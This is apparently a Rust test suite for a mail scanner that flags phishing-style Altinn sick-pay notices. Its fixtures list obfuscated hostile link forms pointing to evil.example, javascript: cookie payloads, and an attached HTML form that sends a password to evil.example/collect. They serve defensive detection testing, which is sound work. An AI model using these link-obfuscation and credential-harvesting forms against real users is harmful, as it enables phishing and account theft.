//! How mail is recognised and judged, through the real binary on real Maildir trees:
//! links judged as a browser follows them, links hidden in attachments, two From fields,
//! oversized "notifications".

mod support;

use serde_json::Value;
use std::collections::HashMap;
use std::path::{Path, PathBuf};
use support::{BareSandbox, Run, by_id, json_lines, make_maildir_folder};

/// The header of a genuine NAV sick-pay reminder as it leaves Altinn.
fn header(id: &str, extra: &[&str]) -> String {
    let mut h = String::from(
        "Return-Path: <noreply@altinn.no>\r\n\
         Authentication-Results: mx.sandnes.kommune.no; spf=pass smtp.mailfrom=altinn.no; dkim=pass header.d=altinn.no; dmarc=pass header.from=altinn.no\r\n\
         Date: Thu, 26 Nov 2026 09:00:00 +0100\r\n\
         From: Altinn <noreply@altinn.no>\r\n\
         To: postmottak@sandnes.kommune.no\r\n\
         Subject: =?utf-8?Q?Sykepenges=C3=B8knad_som_ikke_er_sendt_inn?=\r\n",
    );
    h.push_str(&format!(
        "Message-ID: <{id}@altinn.no>\r\nMIME-Version: 1.0\r\n"
    ));
    for line in extra {
        h.push_str(line);
        h.push_str("\r\n");
    }
    h
}

/// A real sick-pay notice in HTML whose one link is `href` (written as it stands in the
/// HTML source, entities and all).
fn sick_pay_notice(id: &str, href: &str) -> Vec<u8> {
    format!(
        "{}Content-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n\
         <html><body><p>En ansatt i SANDNES KOMMUNE (964965137) har fått en søknad om sykepenger til utfylling, men har foreløpig ikke sendt den inn.</p>\
         <p>Logg inn på <a href=\"{href}\">Altinn</a> for å se hvem det gjelder.</p></body></html>\r\n",
        header(id, &[])
    )
    .into_bytes()
}

/// A mail root with `messages` (file stem, bytes) in INBOX/cur.
fn mail_root(sandbox: &BareSandbox, messages: &[(String, Vec<u8>)]) -> PathBuf {
    let root = sandbox.path().join("Mail");
    make_maildir_folder(&root.join("INBOX"));
    for (i, (stem, bytes)) in messages.iter().enumerate() {
        let name = format!("18000{i:05}.{stem}.host:2,S");
        std::fs::write(root.join("INBOX/cur").join(name), bytes).expect("write a message");
    }
    root
}

fn scan_json(sandbox: &BareSandbox, root: &Path) -> (Run, HashMap<String, Value>) {
    let run = sandbox.run(&["--maildir", root.to_str().unwrap(), "scan", "--json"]);
    assert_eq!(run.code, Some(0), "{}\n{}", run.stdout, run.stderr);
    let items = by_id(json_lines(&run.stdout));
    (run, items)
}

/// The listed item whose unique name contains `stem`.
fn item<'a>(items: &'a HashMap<String, Value>, stem: &str) -> &'a Value {
    items
        .iter()
        .find(|(id, _)| id.contains(&format!(".{stem}.")))
        .map(|(_, v)| v)
        .unwrap_or_else(|| panic!("{stem} is not listed: {items:?}"))
}

fn doubt_kinds(v: &Value) -> Vec<String> {
    v["doubts"]
        .as_array()
        .unwrap()
        .iter()
        .map(|d| d["kind"].as_str().unwrap().to_string())
        .collect()
}

/// Issue 8: these hrefs in a real sick-pay notice were judged trusted and the notice was
/// forwarded. A browser follows each of them to evil.example (or runs script).
#[test]
fn hostile_link_forms_make_a_notice_suspicious() {
    let hostile = [
        "ht\ttps://evil.example/login",
        "ht&#9;tps://evil.example/login",
        "ht\ntps://evil.example/login",
        "ht&#10;tps://evil.example/login",
        "https:/\t/evil.example/login",
        "https:/&Tab;/evil.example/login",
        "https:evil.example/login",
        "https:/evil.example/login",
        "/\\evil.example/login",
        "//evil.example/login",
        "java&#9;script:alert(document.cookie)",
        "&#106;avascript:alert(1)",
        "https://www.altinn.no@evil.example/login",
        "https://www.altinn.no&#x2e;evil.example/login",
    ];
    let sandbox = BareSandbox::new();
    let mut messages: Vec<(String, Vec<u8>)> = hostile
        .iter()
        .enumerate()
        .map(|(i, href)| (format!("h{i}"), sick_pay_notice(&format!("h{i}"), href)))
        .collect();
    messages.push((
        "ok".into(),
        sick_pay_notice("ok", "https://www.altinn.no/ui/MessageBox?O=964965137"),
    ));
    messages.push((
        "okfw".into(),
        sick_pay_notice("okfw", "https://ｗｗｗ.altinn.no/ui/MessageBox"),
    ));
    let root = mail_root(&sandbox, &messages);
    let (run, items) = scan_json(&sandbox, &root);
    for (i, href) in hostile.iter().enumerate() {
        let v = item(&items, &format!("h{i}"));
        assert_eq!(v["suspicious"], true, "{href:?} judged genuine: {v}");
        assert_eq!(v["action"], "skip", "{href:?}");
        assert_eq!(v["rule"], "suspicious", "{href:?}");
        assert!(
            doubt_kinds(v).contains(&"untrusted_link".to_string()),
            "{href:?}: {v}"
        );
    }
    for stem in ["ok", "okfw"] {
        let v = item(&items, stem);
        assert_eq!(v["suspicious"], false, "{stem}: {v}\n{}", run.stderr);
        assert_eq!(v["action"], "forward", "{stem}");
    }
}

/// A multipart notice: a genuine text and HTML body, plus `attachment` (a complete MIME
/// part with its headers).
fn notice_with_attachment(id: &str, attachment: &str) -> Vec<u8> {
    format!(
        "{}Content-Type: multipart/mixed; boundary=\"b1\"\r\n\r\n\
         --b1\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n\
         En ansatt i SANDNES KOMMUNE (964965137) har fått en søknad om sykepenger til utfylling. Logg inn på https://www.altinn.no/ for å se den.\r\n\
         --b1\r\n{attachment}\r\n--b1--\r\n",
        header(id, &[])
    )
    .into_bytes()
}

#[test]
fn links_in_html_attachments_and_attached_messages_count() {
    let html_attachment = "Content-Type: text/html; charset=utf-8\r\nContent-Disposition: attachment; filename=\"skjema.html\"\r\n\r\n<html><body><form action=\"https://evil.example/collect\"><input name=pw></form></body></html>";
    let octet_html = "Content-Type: application/octet-stream\r\nContent-Disposition: attachment; filename=\"Logg inn.htm\"\r\nContent-Transfer-Encoding: base64\r\n\r\nPGEgaHJlZj0iaHR0cHM6Ly9ldmlsLmV4YW1wbGUvIj5Mb2dnIGlubjwvYT4=";
    let attached_message = "Content-Type: message/rfc822\r\n\r\nFrom: Altinn <noreply@altinn.no>\r\nSubject: Logg inn\r\nContent-Type: text/html\r\n\r\n<a href=\"https://altinn.no.evil.example/login\">Logg inn</a>";
    let harmless_attachment = "Content-Type: application/pdf\r\nContent-Disposition: attachment; filename=\"vedlegg.pdf\"\r\n\r\n%PDF-1.4 https://evil.example/ inside a PDF is not a link a browser opens";
    let good_attached = "Content-Type: message/rfc822\r\n\r\nFrom: Altinn <noreply@altinn.no>\r\nSubject: x\r\nContent-Type: text/plain\r\n\r\nSe https://www.altinn.no/ui/MessageBox";
    let sandbox = BareSandbox::new();
    let root = mail_root(
        &sandbox,
        &[
            (
                "html".into(),
                notice_with_attachment("html", html_attachment),
            ),
            ("octet".into(), notice_with_attachment("octet", octet_html)),
            (
                "rfc".into(),
                notice_with_attachment("rfc", attached_message),
            ),
            (
                "pdf".into(),
                notice_with_attachment("pdf", harmless_attachment),
            ),
            ("good".into(), notice_with_attachment("good", good_attached)),
        ],
    );
    let (_, items) = scan_json(&sandbox, &root);
    for stem in ["html", "octet", "rfc"] {
        let v = item(&items, stem);
        assert_eq!(v["suspicious"], true, "{stem}: {v}");
        assert!(
            doubt_kinds(v).contains(&"untrusted_attachment_link".to_string()),
            "{stem}: {v}"
        );
    }
    for stem in ["pdf", "good"] {
        let v = item(&items, stem);
        assert_eq!(v["suspicious"], false, "{stem}: {v}");
    }
}

#[test]
fn two_from_fields_make_a_notice_suspicious() {
    let mut two = header("two", &["From: Altinn <varsel@altinn.no>"]).into_bytes();
    two.extend_from_slice(
        b"Content-Type: text/plain; charset=utf-8\r\n\r\nEn ansatt i SANDNES KOMMUNE (964965137) har en sykepenges\xc3\xb8knad. https://www.altinn.no/\r\n",
    );
    let sandbox = BareSandbox::new();
    let root = mail_root(&sandbox, &[("two".into(), two)]);
    let (_, items) = scan_json(&sandbox, &root);
    let v = item(&items, "two");
    assert_eq!(v["suspicious"], true, "{v}");
    assert_eq!(v["doubts"][0]["kind"], "several_from_fields", "{v}");
    assert_eq!(v["doubts"][0]["detail"], "2", "{v}");
}

/// The peak resident memory of a child process, in KiB (Linux `ru_maxrss`).
fn run_measuring_rss(cmd: &mut std::process::Command) -> (Run, i64) {
    use std::os::unix::process::ExitStatusExt;
    let child = cmd
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .expect("the binary starts");
    let pid = child.id() as libc::pid_t;
    // Read the output on threads so that the child never blocks on a full pipe.
    let mut child = child;
    let mut out = child.stdout.take().unwrap();
    let mut err = child.stderr.take().unwrap();
    let t_out = std::thread::spawn(move || {
        let mut v = Vec::new();
        std::io::Read::read_to_end(&mut out, &mut v).unwrap();
        v
    });
    let t_err = std::thread::spawn(move || {
        let mut v = Vec::new();
        std::io::Read::read_to_end(&mut err, &mut v).unwrap();
        v
    });
    let mut status = 0;
    // SAFETY: a zeroed rusage is a valid value for wait4 to fill in.
    let mut usage: libc::rusage = unsafe { std::mem::zeroed() };
    // SAFETY: `pid` is our own child, not yet reaped; the pointers are valid.
    let r = unsafe { libc::wait4(pid, &mut status, 0, &mut usage) };
    assert_eq!(r, pid, "wait4");
    let stdout = t_out.join().unwrap();
    let stderr = t_err.join().unwrap();
    let status = std::process::ExitStatus::from_raw(status);
    let run = Run {
        code: status.code(),
        stdout: String::from_utf8_lossy(&stdout).into_owned(),
        stderr: String::from_utf8_lossy(&stderr).into_owned(),
        raw_stdout: stdout,
    };
    // The child is reaped: dropping `child` must not wait again.
    std::mem::forget(child);
    (run, usage.ru_maxrss)
}

/// Issue 8: a 200 MB "notification" took 790 MB of memory. A claiming message larger
/// than any real notification is suspicious, and only the configured limit of it is read.
#[test]
fn an_oversized_notification_is_suspicious_and_not_read_whole() {
    const MIB: usize = 1 << 20;
    let mut big = header("big", &[]).into_bytes();
    big.extend_from_slice(
        b"Content-Type: multipart/mixed; boundary=\"b1\"\r\n\r\n--b1\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nEn ansatt i SANDNES KOMMUNE (964965137) har en sykepenges\xc3\xb8knad. https://www.altinn.no/\r\n--b1\r\nContent-Type: application/octet-stream\r\nContent-Transfer-Encoding: base64\r\n\r\n",
    );
    let sandbox = BareSandbox::new();
    let root = mail_root(
        &sandbox,
        &[(
            "ok".into(),
            sick_pay_notice("ok", "https://www.altinn.no/ui/MessageBox"),
        )],
    );
    // Written in pieces: the test process itself stays small, since a child's peak
    // memory counts its parent's at the fork.
    let line = b"QUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFB\r\n";
    let path = root.join("INBOX/cur/1800099999.big.host:2,S");
    let mut file = std::io::BufWriter::new(std::fs::File::create(&path).unwrap());
    let mut size = big.len();
    std::io::Write::write_all(&mut file, &big).unwrap();
    drop(big);
    while size < 96 * MIB {
        std::io::Write::write_all(&mut file, line).unwrap();
        size += line.len();
    }
    std::io::Write::write_all(&mut file, b"--b1--\r\n").unwrap();
    size += 8;
    drop(file);
    let (run, max_rss_kib) = run_measuring_rss(sandbox.command("C").args([
        "--maildir",
        root.to_str().unwrap(),
        "scan",
        "--json",
    ]));
    assert_eq!(run.code, Some(0), "{}", run.stderr);
    let items = by_id(json_lines(&run.stdout));
    let v = item(&items, "big");
    assert_eq!(v["suspicious"], true, "{v}");
    let too_large = v["doubts"]
        .as_array()
        .unwrap()
        .iter()
        .find(|d| d["kind"] == "too_large")
        .unwrap_or_else(|| panic!("no too_large doubt: {v}"));
    assert_eq!(too_large["detail"], size.to_string());
    assert_eq!(item(&items, "ok")["suspicious"], false);
    // The scan holds at most the limit (1 MiB) of it: far below the file's own size.
    assert!(
        (max_rss_kib as usize) * 1024 < 48 * MIB,
        "peak memory {max_rss_kib} KiB for a {size}-byte message"
    );

    // explain says so too, in words.
    let run = sandbox.run(&["explain", path.to_str().unwrap()]);
    assert!(
        run.stdout.contains("larger than any real notification"),
        "{}",
        run.stdout
    );
}
